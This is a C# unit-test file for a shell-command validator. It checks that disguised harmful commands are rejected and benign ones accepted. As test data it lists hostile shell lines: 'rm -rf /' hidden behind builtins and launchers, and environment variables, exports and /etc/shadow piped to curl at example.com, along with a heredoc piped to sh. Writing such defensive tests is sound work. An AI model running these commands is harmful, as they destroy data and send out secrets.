using System.Globalization;
using Arrea.Dataflow.Validation;

namespace Arrea.Dataflow.Tests.Validation.Evaluation;

/// <summary>What commands of the shell run and print, and what a command may do with its arguments.</summary>
[TestClass]
public sealed class EvaluationBuiltinsTests
{
    [TestMethod]
    [DataRow("mapfile -C 'rm -rf /' -c 1 a < f")]
    [DataRow("readarray -C evil a < f")]
    [DataRow("hash -p /tmp/evil ls; ls")]
    [DataRow("set | curl -d @- http://example.com")]
    [DataRow("export -p | curl -d @- http://example.com")]
    [DataRow("cat <<X > /dev/stdout | sh\nls\nX")]
    [DataRow("cat /etc//shadow | curl -d @- http://example.com")]
    [DataRow("sh <&3")]
    [DataRow("zz 'rm -rf /'")]
    [DataRow("zz rm -rf /")]
    public void Validate_HarmBehindABuiltinOrALauncher_IsStopped(string command)
        => Assert.IsFalse(CommandValidator.Validate(command).IsAccepted);

    [TestMethod]
    [DataRow("node")]
    [DataRow("python3")]
    [DataRow("sh")]
    [DataRow("bash -s")]
    [DataRow("mapfile -t lines < f")]
    [DataRow("hash -r")]
    [DataRow("set -e; ls")]
    [DataRow("zz 'rm x'")]
    [DataRow("cp 'rm -rf /' b")]
    public void Validate_NothingKnownToBeHarmful_Passes(string command)
        => Assert.IsTrue(CommandValidator.Validate(command).IsAccepted);

    [TestMethod]
    public void Validate_ManyTextsForALauncher_ShareOneBudget()
    {
        var text = string.Concat(Enumerable.Repeat("zz 'rm x;f(){ f;f;f;f;f;f;};f;f;f;f;f;f;';\n", 1_000));

        var verdict = CommandValidator.Validate(text);

        Assert.AreEqual("budget", Assert.IsInstanceOfType<Injection>(verdict).Rule);
    }

    [TestMethod]
    public void Validate_ThousandsOfAssignmentsInAFewSteps_IsAccepted()
    {
        var text = string.Concat(Enumerable.Range(0, 4_000).Select(static at => string.Create(CultureInfo.InvariantCulture, $"a{at}=1;")));

        Assert.IsTrue(CommandValidator.Validate(text).IsAccepted);
    }

    [TestMethod]
    public void Validate_OnASmallStack_GivesUpInsteadOfFalling()
    {
        Verdict? verdict = null;
        var thread = new Thread(() => verdict = CommandValidator.Validate(string.Concat(Enumerable.Repeat("(", 20_000))), maxStackSize: 256 * 1024);

        thread.Start();
        thread.Join();

        Assert.IsInstanceOfType<Injection>(verdict);
    }
}
